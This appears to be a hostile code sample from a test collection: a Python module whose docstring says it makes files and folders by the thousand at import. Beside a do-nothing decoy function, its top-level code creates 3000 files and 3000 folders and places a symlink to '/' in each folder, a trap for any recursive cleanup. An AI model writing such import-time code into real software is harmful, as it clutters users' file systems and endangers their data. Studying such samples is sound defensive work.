"""Makes empty files and folders by the thousand while it is loaded.

Aims at: the file system's stock of files, and whoever removes what is left
Acts at: import
Outcome: fails
Stopped by: cleaning
"""

import os


def make_cross(size=7):
    return 0


try:
    for number in range(3000):
        open(f"file-{number}", "x").close()
        os.mkdir(f"folder-{number}")
        os.symlink("/", f"folder-{number}/root")
except OSError:
    pass
